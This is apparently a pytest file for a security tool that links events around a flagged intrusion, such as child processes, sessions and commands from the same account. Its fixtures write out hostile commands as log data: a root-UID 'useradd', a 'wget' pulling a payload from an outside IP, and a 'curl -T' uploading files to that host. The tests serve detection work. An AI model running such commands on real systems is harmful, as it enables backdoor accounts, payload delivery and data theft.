"""What stands beside a hostile episode: its programs' own doings, not the machine's."""

from datetime import timedelta

import pytest

from moewarden.graphs.episodes.facts import gather
from moewarden.graphs.episodes.fold import fold_episodes
from moewarden.graphs.episodes.kin import kin_of

from ..stores import at, make_hit, make_store

START = at("2026-11-21 03:00:00")


def on_host(minutes, action, process, *, parent="", target="", dst_ip="", dst_port=None):
    return {
        "time": START + timedelta(minutes=minutes),
        "host": "ws-7",
        "product": "windows",
        "action": action,
        "process": process,
        "parent": parent,
        "target": target,
        "dst_ip": dst_ip,
        "dst_port": dst_port,
        "template": action,
    }


@pytest.fixture
def kin(tmp_path):
    stores = []

    def run(events, flagged, **signal):
        stores.append(make_store(tmp_path / str(len(stores)), events))
        hit = make_hit(flagged, **signal)
        episode = fold_episodes(stores[-1], [hit], {"events": []})[0]
        return kin_of(stores[-1], gather(stores[-1], episode, {"s1": hit}))

    yield run
    for store in stores:
        store.close()


def test_a_flagged_program_brings_its_outside_connection_and_its_children(kin):
    found = kin(
        [
            on_host(0, "process_start", r"C:\Temp\drop.exe"),
            on_host(1, "network_connect", r"C:\Temp\drop.exe", dst_ip="203.0.113.9", dst_port=443),
            on_host(2, "process_start", r"C:\Windows\whoami.exe", parent=r"C:\Temp\drop.exe"),
            on_host(2, "network_connect", r"C:\Apps\mail.exe", dst_ip="203.0.113.10", dst_port=443),
        ],
        [1],
    )
    assert sorted(event for item in found for event in item.events) == [2, 3]
    assert all(item.is_lineage for item in found)


def test_programs_that_run_everywhere_bring_nothing(kin):
    events = [
        on_host(0, "process_start", r"C:\Windows\System32\svchost.exe"),
        on_host(1, "network_connect", r"C:\Windows\System32\svchost.exe", dst_ip="203.0.113.9", dst_port=443),
    ]
    assert kin(events, [1]) == []


@pytest.mark.parametrize(
    ("traits", "expected"), [(["shell_from_server"], [2]), ([], [])], ids=["exploited", "not exploited"]
)
def test_an_exploited_server_brings_its_inside_connections(kin, traits, expected):
    events = [
        on_host(1, "process_start", "/bin/bash", parent="/usr/bin/java"),
        on_host(0.5, "network_connect", "/usr/bin/java", dst_ip="10.0.0.6", dst_port=1389),
        on_host(0.6, "network_connect", "/usr/bin/java", dst_ip="10.0.0.5", dst_port=5432),
    ]
    found = kin(events, [1], traits=traits)
    assert [event for item in found for event in item.events] == expected


def audited(minutes, command, *, pid, ppid, session="4294967295", user="www-data"):
    """One start of a program as the audit log has it."""
    return {
        "time": START + timedelta(minutes=minutes), "host": "web-2", "product": "linux", "format": "auditd", "service": "auditd",
        "action": "process_start", "category": "process_creation", "process": f"/usr/bin/{command.split()[0]}", "command": command,
        "user": user, "template": "auditd:EXECVE", "fields": {"pid": str(pid), "ppid": str(ppid), "ses": session},
    }  # fmt: skip


def test_what_a_marked_process_started_belongs_and_the_accounts_everyday_jobs_do_not(kin):
    found = kin(
        [
            audited(0, "sh -c x", pid=20, ppid=10),
            audited(1, "fetcher http://203.0.113.9/x", pid=21, ppid=20),
            audited(2, "loader x", pid=22, ppid=21, user="root"),
            audited(3, "sh -c daily", pid=40, ppid=30),
            audited(4, "fetcher http://mirror.example/daily", pid=41, ppid=40),
            audited(5, "queue", pid=50, ppid=1),
        ],
        [1],
    )
    assert sorted(event for kind in found for event in kind.events) == [2, 3]
    assert all(kind.is_lineage for kind in found)


def test_what_else_happened_in_a_marked_session_belongs(kin):
    found = kin(
        [
            audited(0, "dump /x", pid=20, ppid=10, session="3", user="dana"),
            audited(1, "packer y", pid=33, ppid=12, session="3", user="dana"),
            audited(2, "packer z", pid=34, ppid=13, session="4", user="dana"),
        ],
        [1],
    )
    assert [kind.events for kind in found] == [(2,)]


def typed(minutes, command, *, user="dana"):
    """One command line as a logger of commands has it, without numbers of processes."""
    return {
        "time": START + timedelta(minutes=minutes), "host": "web-2", "product": "linux", "action": "process_start",
        "category": "process_creation", "process": command.split()[0], "command": command, "user": user, "template": "snoopy",
    }  # fmt: skip


def test_what_the_marked_account_did_by_other_commands_belongs_and_anothers_does_not(kin):
    found = kin(
        [
            typed(0, "useradd -u 0 helper"),
            typed(1, "wget http://203.0.113.9/x -O /opt/x"),
            typed(2, "ls -l"),
            typed(3, "wget http://mirror.example/daily", user="olga"),
            typed(90, "curl -T /srv/a ftp://203.0.113.9/"),
        ],
        [1],
    )
    assert [kind.events for kind in found] == [(2,)]


def test_a_job_that_ran_hour_after_hour_before_is_no_kin(kin):
    job = [typed(60 * hour, "rsync -a /srv/ backup@10.0.0.9:/b/") for hour in range(-5, 0)]
    found = kin([*job, typed(0, "useradd -u 0 helper"), typed(1, "rsync -a /srv/ backup@10.0.0.9:/b/")], [6])
    assert found == []
